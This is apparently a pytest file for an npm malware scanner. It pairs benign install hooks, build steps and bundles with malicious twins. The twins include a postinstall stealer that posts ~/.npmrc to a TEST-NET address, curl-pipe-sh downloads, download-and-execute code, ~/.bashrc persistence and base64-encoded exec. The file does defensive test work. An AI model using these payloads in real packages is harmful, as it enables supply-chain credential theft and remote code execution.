"""Round 13's npm false-alarm classes (found on the tune half of the npm-deps corpus), each
beside a malicious twin of the same shape that must stay high with its threat.

Every fixture is built here; addresses are TEST-NET or ``.invalid``; nothing is ever run.
"""

from __future__ import annotations

import base64
import json

import pytest

from app.core.archive import open_bytes
from app.core.capabilities import jsparse
from app.core.capabilities.blobkinds import inert_blob
from app.core.capabilities.scan import scan_artifact
from tests.core.capabilities.npm_attacks import Attack

HIGH = ("high", "critical")


def _scan(files: dict[str, str], scripts: dict[str, str] | None = None):
    attack = Attack("demo-pkg", files, set(), scripts or {})
    return scan_artifact(open_bytes(attack.tarball(), "demo-pkg.tgz"))


def _ids(res) -> set[str]:
    return {t.id for t in res.threats if t.severity in HIGH}


# --- 1. a lifecycle hook that only runs one of the package's own files with node ---------

BANNER = (
    "var env = process.env;\n"
    "var CI = ['CI', 'BUILD_NUMBER'].some(function (k) { return !!env[k]; });\n"
    "if (!CI) console.log('Thank you for using demo-pkg! https://opencollective.com/demo');\n"
)
STEALER = (
    "const fs = require('fs'), os = require('os'), https = require('https');\n"
    "const k = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\n"
    "https.request({host: '192.0.2.10', method: 'POST', path: '/n'}).end(k);\n"
)
OWN_FILE_HOOKS = {
    "node -e try/require wrapper": (
        "postinstall.js",
        "node -e \"try{require('./postinstall')}catch(e){}\"",
    ),
    "node install.mjs": ("install.mjs", "node install.mjs"),
    "node ./scripts/setup.cjs": ("scripts/setup.cjs", "node ./scripts/setup.cjs"),
}


@pytest.mark.parametrize("name", sorted(OWN_FILE_HOOKS))
def test_a_hook_running_its_own_quiet_file_is_judged_by_that_file(name):
    """core-js prints a banner from ``node -e "try{require('./postinstall')}catch(e){}"``,
    puppeteer runs ``node install.mjs``: npm starting a file the package ships says only that
    the file runs at install; what the file does decides."""
    path, cmd = OWN_FILE_HOOKS[name]
    res = _scan({"index.js": "module.exports = 1;\n", path: BANNER}, {"postinstall": cmd})
    assert res.risk.level not in HIGH, (name, [(t.id, t.severity) for t in res.threats])
    hook = [h for h in res.findings if h.capability == "install.script_hook"]
    assert hook and hook[0].severity == "medium"


@pytest.mark.parametrize("name", sorted(OWN_FILE_HOOKS))
def test_twin_the_same_hook_running_a_stealer_stays_high(name):
    path, cmd = OWN_FILE_HOOKS[name]
    res = _scan({"index.js": "module.exports = 1;\n", path: STEALER}, {"postinstall": cmd})
    assert res.risk.level in HIGH, name
    assert "place.install_time" in _ids(res) or "chain.exfiltration" in _ids(res), _ids(res)


def test_twin_a_hook_naming_a_file_the_package_does_not_ship_stays_high():
    """Nothing to read in its place: the file may come from elsewhere at install."""
    res = _scan({"index.js": "module.exports = 1;\n"}, {"postinstall": "node install.mjs"})
    assert res.risk.level in HIGH
    assert "place.install_time" in _ids(res)


def test_twin_a_require_wrapper_naming_a_dependency_stays_high():
    """``require('x')`` without ``./`` loads a dependency, not a file the package ships."""
    res = _scan(
        {"index.js": "module.exports = 1;\n", "postinstall.js": BANNER},
        {"postinstall": "node -e \"try{require('postinstall')}catch(e){}\""},
    )
    assert "place.install_time" in _ids(res)


# --- 2. build steps joined as alternatives -------------------------------------------------


def test_prebuild_or_node_gyp_is_a_build_step():
    """kerberos: ``prebuild-install --runtime napi || node-gyp rebuild`` fetches a prebuilt
    binding or compiles it: two build steps, as each alone already is."""
    res = _scan(
        {"index.js": "module.exports = require('./build/Release/k.node');\n"},
        {"install": "prebuild-install --runtime napi || node-gyp rebuild"},
    )
    assert res.risk.level not in HIGH, [(t.id, t.severity) for t in res.threats]


def test_twin_a_build_step_with_a_shell_download_as_its_alternative_stays_high():
    res = _scan(
        {"index.js": "module.exports = 1;\n"},
        {"install": "prebuild-install --runtime napi || curl -s http://192.0.2.1/b.sh | sh"},
    )
    assert res.risk.level in HIGH
    assert "place.install_time" in _ids(res)


def test_twin_a_build_step_followed_by_a_script_of_its_own_stays_high():
    res = _scan({"index.js": "module.exports = 1;\n"}, {"install": "node-gyp rebuild && ./run.sh"})
    assert "place.install_time" in _ids(res)


# --- 3. a write stream that is the receiver of .on() -------------------------------------

CHANGELOG_CLI = (
    "#!/usr/bin/env node\n"
    "const { createReadStream, createWriteStream } = require('fs');\n"
    "const generate = require('./generate');\n"
    "// docs: https://example.invalid/changelog\n"
    "const tmp = require('os').tmpdir() + '/changelog.tmp';\n"
    "generate()\n"
    "  .pipe(createWriteStream(tmp))\n"
    "  .on('finish', () => {\n"
    "    createReadStream(tmp).pipe(createWriteStream('CHANGELOG.md'));\n"
    "  });\n"
)


def test_a_stream_piped_to_a_file_and_listened_on_is_no_download():
    """conventional-changelog-cli pipes its generated text through a temp file; ``.on`` on the
    write stream waits for its end: no response is involved, whatever URL the help names."""
    res = _scan({"cli.js": CHANGELOG_CLI, "generate.js": "module.exports = () => null;\n"})
    assert res.risk.level not in HIGH, [(t.id, t.severity) for t in res.threats]
    assert not any(
        h.capability == "net.download_to_disk" and h.severity in HIGH for h in res.findings
    )


@pytest.mark.parametrize(
    "source",
    [
        "https.get('https://192.0.2.4/p', (res) =>",
        "request('http://192.0.2.4/p')",
    ],
)
def test_twin_a_response_piped_to_a_file_and_started_stays_high(source):
    if source.endswith("=>"):
        body = (
            f"{source} {{\n  res.pipe(fs.createWriteStream('/tmp/p'))\n"
            "    .on('finish', () => cp.execFileSync('/tmp/p'));\n});\n"
        )
    else:
        body = (
            f"{source}\n  .pipe(fs.createWriteStream('/tmp/p'))\n"
            "  .on('finish', () => cp.execFileSync('/tmp/p'));\n"
        )
    src = (
        "const fs = require('fs'), cp = require('child_process');\n"
        "const https = require('https'), request = require('request');\n" + body
    )
    res = _scan({"index.js": src})
    assert res.risk.level in HIGH
    assert "chain.download_execute" in _ids(res), _ids(res)


# --- 4. shell text in a string of a bundle too large to parse whole ----------------------

COMPLETION = (
    "  var completion = `###-begin-{{app_name}}-completions-###\n"
    "#\n# Installation: {{app_path}} {{completion_command}} >> ~/.bashrc\n"
    "#    or {{app_path}} {{completion_command}} >> ~/.bash_profile on OSX.\n"
    "###-end-{{app_name}}-completions-###`;\n"
    "  exports.completion = completion;\n"
)
ACTING = "  require('child_process').execSync('echo ./run >> ~/.bashrc');\n"


def _bundle(middle: str) -> str:
    """A bundle that is cut in pieces (one function wraps it all, so every cut leaves syntax
    errors), with ``middle`` in one of them."""
    filler = "".join(f"  var v{i} = {{ key: 'value {i}', n: {i} }};\n" for i in range(300))
    return "(function () {\n" + filler + middle + filler + "})();\n"


@pytest.fixture
def small_pieces(monkeypatch):
    """Pieces of 8 KB, so that a fixture of some 30 KB is parsed as a 14 MB bundle is."""
    monkeypatch.setattr(jsparse, "MAX_PARSE", 8 * 1024)
    monkeypatch.setattr(jsparse, "SMALL_PIECE", 8 * 1024)


def test_a_completion_template_in_a_bundle_parsed_in_pieces_is_text(small_pieces):
    """wrangler's 14 MB CLI bundle carries yargs' completion script as a template string: in
    a piece that parsed, the tree shows it is a string, as it would in a file parsed whole."""
    res = _scan({"index.js": "module.exports = 1;\n", "dist/cli.js": _bundle(COMPLETION)})
    unparsed = [h for h in res.findings if h.capability == "scan.unparsed"]
    assert unparsed and "pieces" in unparsed[0].explanation
    assert res.risk.level not in HIGH, [(t.id, t.severity) for t in res.threats]


def test_twin_the_same_bundle_writing_the_shell_rc_stays_high(small_pieces):
    res = _scan({"index.js": "module.exports = 1;\n", "dist/cli.js": _bundle(ACTING)})
    assert res.risk.level in HIGH
    assert "impact.persistence" in _ids(res), _ids(res)


# --- 5. a pretty-printed source map inlined as a data: URL --------------------------------

SOURCE_MAP = json.dumps(
    {"version": 3, "sources": ["lib/a.js"], "names": [], "mappings": "AAAA" * 400}, indent=2
)
BINDER = (
    "function bind(target, boundArgs) {\n"
    "  return Function('binder', 'return function (' + boundArgs.join(',') + "
    "'){ return binder.apply(this,arguments); }')(target);\n"
    "}\nmodule.exports = bind;\n"
)


def test_a_pretty_printed_source_map_is_not_an_encoded_payload():
    """sinon's bundle ends with ``//# sourceMappingURL=data:application/json;base64,`` of a
    map written with indentation: JSON for a debugger beside a bind helper's ``Function``."""
    blob = base64.b64encode(SOURCE_MAP.encode()).decode()
    assert inert_blob(blob[:200], "str.base64_blob", javascript=True)
    src = BINDER + "//# sourceMappingURL=data:application/json;base64," + blob + "\n"
    res = _scan({"index.js": src})
    assert res.risk.level not in HIGH, [(t.id, t.severity) for t in res.threats]


def test_twin_encoded_code_beside_function_stays_high():
    code = "require('child_process').exec('curl -s http://192.0.2.7/x | sh');" * 20
    blob = base64.b64encode(code.encode()).decode()
    src = BINDER + f"var p = '{blob}';\nFunction(Buffer.from(p, 'base64').toString())();\n"
    res = _scan({"index.js": src})
    assert res.risk.level in HIGH
    assert _ids(res) & {"disguise.encoded_exec", "chain.decode_exec", "chain.remote_exec"}, _ids(
        res
    )
